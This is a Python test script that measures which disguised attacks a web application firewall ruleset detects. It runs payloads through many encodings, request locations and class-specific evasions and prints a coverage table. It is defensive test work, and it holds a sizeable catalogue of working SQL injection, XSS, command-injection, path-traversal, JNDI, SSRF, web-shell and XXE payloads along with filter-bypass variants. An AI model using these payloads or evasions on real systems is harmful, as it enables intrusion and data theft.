#!/usr/bin/env python3
"""Which disguises of an attack the built-in ruleset sees through: a table of techniques and classes of attack.

    tests/quality/evasions.py LIBRARY [--least PERCENT] [--rules FOLDER|FILE]

Each cell is one request with a payload of the class, disguised or placed by the technique. A cell is left out where the disguised payload would not
work on any server: no shell takes `WHOAMI` for `whoami`. Encodings stand for a layer that undoes them once before the payload is used. With `--least`
the command fails if less than this share of the cells is found, so that it is a test as well.
"""
import argparse
import base64
import json
import sys
import urllib.parse

import ruleset

PAYLOADS = {
    "sqli": "1' UNION SELECT login,secret FROM accounts-- -",
    "sqli-or": "x' or 'a'='a",
    "xss": "<img src=x onerror=alert(1)>",
    "xss-script": "<script>alert(document.domain)</script>",
    "lfi": "../../../../../etc/passwd",
    "cmdi": "192.0.2.1;cat /etc/passwd",
    "cmdi-bare": "a|whoami",
    "ssti": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "php": "<?php system($_GET['c']); ?>",
    "java": "${jndi:ldap://192.0.2.7/a}",
    "node": "require('child_process').exec('touch /tmp/x')",
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/",
    "ldap": "*)(uid=*))(|(uid=*",
    "nosql": "'; return this.role == 'admin' || '1'=='1",
    "xxe": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
    "ssi": '<!--#exec cmd="ls" -->',
}
MARKS = set("'\"<>()/\\;|${}*=.[]&-:!#")
IGNORE_CASE = {"sqli", "sqli-or", "xss", "ldap", "ssrf"}


def marks(encode):
    """Disguises only the punctuation, which is what matters."""
    return lambda text: "".join(encode(one) if one in MARKS else one for one in text)


def overlong(size):
    def encode(one):
        tail = [0x80 | (ord(one) >> 6 & 0x3F if at == 1 else 0) for at in range(size - 1, 1, -1)]
        if size == 2:
            return bytes([0xC0 | ord(one) >> 6, 0x80 | ord(one) & 0x3F])
        lead = {3: 0xE0, 4: 0xF0}[size]
        middle = [0x80] * (size - 3) + [0x80 | ord(one) >> 6]
        assert len(tail) == size - 2
        return bytes([lead, *middle, 0x80 | ord(one) & 0x3F])

    return lambda text: b"".join(encode(one) if one in MARKS else one.encode() for one in text)


def utf7(text):
    coded = lambda one: "+" + base64.b64encode(one.encode("utf-16-be")).decode().rstrip("=") + "-"
    return marks(coded)(text)


def quote(text):
    return urllib.parse.quote(text, safe="")


def b64(text):
    return base64.b64encode(text.encode()).decode()


# Disguises of a text that some layer undoes.
ENCODINGS = {
    "plain": lambda text: text,
    "percent": quote,
    "percent twice": lambda text: quote(quote(text)),
    "percent three times": lambda text: quote(quote(quote(text))),
    "%uXXXX": marks(lambda one: f"%u{ord(one):04x}"),
    "percent letters": lambda text: "".join(f"%{ord(one):02x}" for one in text),
    "overlong UTF-8, 2 bytes": overlong(2),
    "overlong UTF-8, 3 bytes": overlong(3),
    "overlong UTF-8, 4 bytes": overlong(4),
    "UTF-7": utf7,
    "full width": marks(lambda one: chr(ord(one) + 0xFEE0)),
    "full width letters": lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),
    "zero-width space": lambda text: "\u200b".join(text),
    "soft hyphen": lambda text: "\u00ad".join(text),
    "decimal references": marks(lambda one: f"&#{ord(one)};"),
    "hexadecimal references": marks(lambda one: f"&#x{ord(one):x};"),
    "long references": marks(lambda one: f"&#{ord(one):07d};"),
    r"\uXXXX": marks(lambda one: f"\\u{ord(one):04x}"),
    r"\uXXXX, all": lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
    r"\u{X}": marks(lambda one: f"\\u{{{ord(one):x}}}"),
    r"\xXX": marks(lambda one: f"\\x{ord(one):02x}"),
    "base64": b64,
    "base64 twice": lambda text: b64(b64(text)),
    "base64, URL alphabet": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "hexadecimal digits": lambda text: text.encode().hex(),
    "hexadecimal digits in base64": lambda text: b64(text.encode().hex()),
    "UTF-16 in base64": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    "UTF-16, little-endian": lambda text: text.encode("utf-16-le"),
    "UTF-16, big-endian": lambda text: text.encode("utf-16-be"),
    "base64, then percent": lambda text: quote(b64(quote(text))),
    "NUL inside": lambda text: "\0".join(text),
    "NUL before": lambda text: "\0" + text,
    "JSON in JSON": lambda text: json.dumps({"inner": {"value": text}}),
    "JSON in JSON in JSON": lambda text: json.dumps({"inner": json.dumps({"value": text})}),
}


def query(text):
    return {"server.request.query": {"q": [text]}}


def body(value):
    return {"server.request.body": value}


def uri(text):
    return {"server.request.uri.raw": "/items/" + quote(text)}


FILLER = "The quick brown fox jumps over the lazy dog and then rests a while. "
# Places in a request.
PLACES = {
    "form field": lambda text: body({"a": [text]}),
    "JSON value": lambda text: body({"a": {"b": [1, {"c": text}]}}),
    "JSON key": lambda text: body({"a": {text: 1}}),
    "deep JSON": lambda text: body(deep(text, 15)),
    "text/plain": body,
    "XML text": lambda text: body({"r": {"a": {"#text": text}}}),
    "XML attribute": lambda text: body({"r": {"@id": text}}),
    "parameter name": lambda text: {"server.request.query": {text: ["1"]}},
    "path": uri,
    "path parameter": lambda text: {"server.request.path_params": {"id": text}},
    "header": lambda text: {"server.request.headers.no_cookies": {"x-api-version": [text]}},
    "user agent": lambda text: {"server.request.headers.no_cookies": {"user-agent": [text]}},
    "referer": lambda text: {"server.request.headers.no_cookies": {"referer": [text]}},
    "header name": lambda text: {"server.request.headers.no_cookies": {text.lower(): ["1"]}},
    "cookie": lambda text: {"server.request.cookies": {"a": [text]}},
    "cookie name": lambda text: {"server.request.cookies": {text: ["1"]}},
    "basic credentials": lambda text: {"server.request.headers.no_cookies": {"authorization": ["Basic " + b64(text + ":x")]}},
    "bearer token": lambda text: {"server.request.headers.no_cookies": {"authorization": ["Bearer " + text]}},
    "file name": lambda text: {"server.request.body.filenames": [text]},
    "file contents": lambda text: {"server.request.body.files_content": [text]},
    "XML CDATA": lambda text: body({"r": {"a": ["text", text]}}),
    "array of objects": lambda text: body([{"a": 1}, {"b": [text]}]),
    "gRPC message": lambda text: {"grpc.server.request.message": {"a": {"b": text}}},
    "GraphQL": lambda text: {"graphql.server.all_resolvers": {"user": [{"id": text}]}},
    "one of many values": lambda text: query(text) | body({f"f{at}": "text" for at in range(200)}),
    "behind 8 KB": lambda text: query(FILLER * 120 + text),
    "before 8 KB": lambda text: query(text + " " + FILLER * 120),
    "before 64 KB": lambda text: query(text + " " + FILLER * 960),
}
NOT_IN = {
    # Header names are in lower case, and a scheme in front makes these no URL and no whole document.
    "header name": {"xxe"},
    "behind 8 KB": {"cmdi-bare", "lfi", "ssrf", "node", "ldap", "nosql"},
    "before 8 KB": {"sqli-or", "lfi", "node", "ldap", "ssrf", "nosql"},
    "before 64 KB": {"sqli-or", "lfi", "node", "ldap", "ssrf", "nosql"},
    "basic credentials": {"sqli-or", "nosql"},
    "JSON key": {"ssrf"},
}

# Disguises in the language of the class.
OWN = {
    "sqli": {
        "comments for blanks": "1'/**/UNION/**/SELECT/**/login/**/FROM/**/accounts-- -",
        "versioned comments": "1'/*!50000UNION*//*!50000SELECT*/login FROM accounts-- -",
        "line comments": "1' UNION -- x\nSELECT login FROM accounts-- -",
        "hash comments": "1' UNION#x\nSELECT login FROM accounts#",
        "tabs": "1'\tUNION\tSELECT\tlogin\tFROM\taccounts--\t",
        "vertical tabs": "1'\x0bUNION\x0bSELECT\x0blogin\x0bFROM\x0baccounts-- ",
        "no-break spaces": "1'\u00a0UNION\u00a0SELECT\u00a0login\u00a0FROM\u00a0accounts-- ",
        "brackets for blanks": "1'UNION(SELECT(login)FROM(accounts))-- ",
        "scientific numbers": "1e1union select login from accounts",
        "nothing but operators": "'||(select 1)||'",
        "concatenation": "1' and (select 'ad'||'min')='admin'-- ",
        "char()": "1' or login=char(97,100,109,105,110)-- ",
        "hexadecimal": "1' or login=0x61646d696e-- ",
        "JSON operators": "' or '{\"a\":1}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb-- ",
        "JSON functions": "1' or json_extract('{\"a\":7}','$.a')=7-- ",
        "pipes for or": "1'||1=1-- ",
        "ampersands for and": "1'&&1=1-- ",
        "stacked": "1';update accounts set admin=1 where id=7-- ",
        "no number": "' or true-- ",
        "sleep": "1' and sleep(7)-- ",
        "conditional error": "1' and (select case when 1=1 then 1/0 else 1 end)=1-- ",
        "between": "1' or 7 between 6 and 8-- ",
        "rlike": "1' or 'x' rlike 'x'-- ",
        "order by": "1' order by 12-- ",
        "double quotes": '1" or "7"="7',
        "number context": "7 or 8=8",
        "closing brackets": "7')) or (('8'='8",
        "into outfile": "1' into outfile '/tmp/x'-- ",
    },
    "xss": {
        "slashes for blanks": "<svg/onload=alert(1)>",
        "no quotes, no brackets": "<svg onload=alert`1`>",
        "line breaks": "<img\nsrc=x\nonerror\n=\nalert(1)>",
        "unknown element": "<abc onpointerover=alert(1)>x",
        "attribute break-out": '" autofocus onfocus=alert(1) x="',
        "string break-out": "'-alert(1)-'",
        "script break-out": "</script><script>alert(1)</script>",
        "scheme": "javascript:alert(1)",
        "scheme with tabs": "java\tscript:alert(1)",
        "scheme with references": "java&Tab;script&colon;alert(1)",
        "attribute with references": "<a href='&#106;avascript:alert(1)'>x</a>",
        "constructor": "[].constructor.constructor('alert(1)')()",
        "atob": "eval(atob('YWxlcnQoMSk='))",
        "split names": "self['al'+'ert'](1)",
        "template literal": "${alert(1)}`",
        "throw": "{onerror=alert}throw 1",
        "data scheme": "<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "srcdoc": "<iframe srcdoc='<script>alert(1)</script>'>",
        "SVG animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
        "unclosed": "<img src=x onerror=alert(1)//",
        "nested": "<scr<script>ipt>alert(1)</script>",
        "style": "<div style=width:expression(alert(1))>",
        "second line": "x\n<img src=x onerror=alert(1)>",
        "form action": "<form action=javascript:alert(1)><button>x</button></form>",
    },
    "cmdi": {
        "quotes inside": "a;wh''oami",
        "double quotes inside": 'a;wh""oami',
        "backslash inside": "a;who\\ami",
        "empty expansion": "a;who$@ami",
        "empty substitution": "a;who$()ami",
        "unset variable": "a;${x}whoami",
        "IFS": "a;cat$IFS/etc/passwd",
        "IFS in braces": "a;cat${IFS}/etc/passwd",
        "braces": "a;{cat,/etc/passwd}",
        "wildcards": "a;/b?n/c?t /e*c/p?ss*d",
        "set of one": "a;/usr/bin/[u]name -a",
        "substitution": "$(whoami)",
        "backticks": "`whoami`",
        "line break": "a\nwhoami",
        "and": "a&&whoami",
        "or": "a||whoami",
        "background": "a& whoami",
        "caret": "a&wh^oami",
        "keyword": "a;if true;then id;fi",
        "loop": "a;while :;do id;done",
        "assignment": "a;X=1 id",
        "negation": "a;! id",
        "redirection": "a;cat</etc/passwd",
        "base64 to shell": "a;echo aWQ=|base64 -d|sh",
        "break-out of quotes": "a';whoami;'",
        "break-out of double quotes": 'a";whoami;"',
        "process substitution": "a;cat <(whoami)",
        "path": "a;/usr/bin/id",
        "variable for letters": "a;${PATH:0:1}bin${PATH:0:1}id",
        "interpreter": "a;python3 -c 'import os'",
    },
    "lfi": {
        "absolute": "/etc/passwd",
        "backslashes": "..\\..\\..\\windows\\win.ini",
        "doubled": "....//....//....//etc/passwd",
        "semicolon": "/..;/..;/manager/html",
        "self": "/proc/self/environ",
        "wrapper": "php://filter/convert.base64-encode/resource=index",
        "file scheme": "file:///etc/passwd",
        "dots between": "/./etc/././passwd",
        "slashes": "//etc//passwd",
        "NUL at the end": "../../../../etc/passwd\0.png",
        "known start": "/var/www/images/../../../etc/passwd",
        "one step": "../config/database.yml",
        "escaped": "..%252f..%252fetc%252fpasswd",
        "UNC": "\\\\192.0.2.9\\c$\\windows\\win.ini",
        "WEB-INF": "../WEB-INF/web.xml",
    },
}


def deep(value, depth):
    for _ in range(depth):
        value = {"a": [value]}
    return value


def cells():
    """(technique, class, request)."""
    for technique, encode in ENCODINGS.items():
        for name, text in PAYLOADS.items():
            yield technique, name, query(encode(text))
    for name, text in PAYLOADS.items():
        if name in IGNORE_CASE:
            mixed = "".join(one.upper() if at % 2 else one.lower() for at, one in enumerate(text))
            yield "mixed case", name, query(mixed)
            yield "upper case", name, query(text.upper())
    for place, put in PLACES.items():
        for name, text in PAYLOADS.items():
            if name not in NOT_IN.get(place, ()):
                yield place, name, put(text)
    for name, techniques in OWN.items():
        for technique, text in techniques.items():
            yield f"{name}: {technique}", name, query(text)
            yield f"{name}: {technique}", name, body({"a": text})


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("library")
    parser.add_argument("--rules", default=ruleset.RULES)
    parser.add_argument("--least", type=float, default=0)
    options = parser.parse_args()
    judge = ruleset.Judge(options.library, options.rules)
    rows = {}
    for technique, name, request in cells():
        rows.setdefault(technique, {}).setdefault(name, []).append(bool(judge.hits(request)))
    kinds = {"generic": [], "by class": []}
    print("| technique | found | missed |\n|---|---:|---|")
    for technique, found in rows.items():
        flat = [one for cell in found.values() for one in cell]
        kinds["by class" if ": " in technique else "generic"] += flat
        missed = ", ".join(name for name, cell in found.items() if not all(cell))
        print(f"| {technique} | {sum(flat)}/{len(flat)} | {missed} |")
    everything = [one for flat in kinds.values() for one in flat]
    for kind, flat in (*kinds.items(), ("all", everything)):
        print(f"\n{kind}: {sum(flat)} of {len(flat)} found, {100 * sum(flat) / len(flat):.1f} %")
    sys.exit(100 * sum(everything) / len(everything) < options.least)


if __name__ == "__main__":
    main()
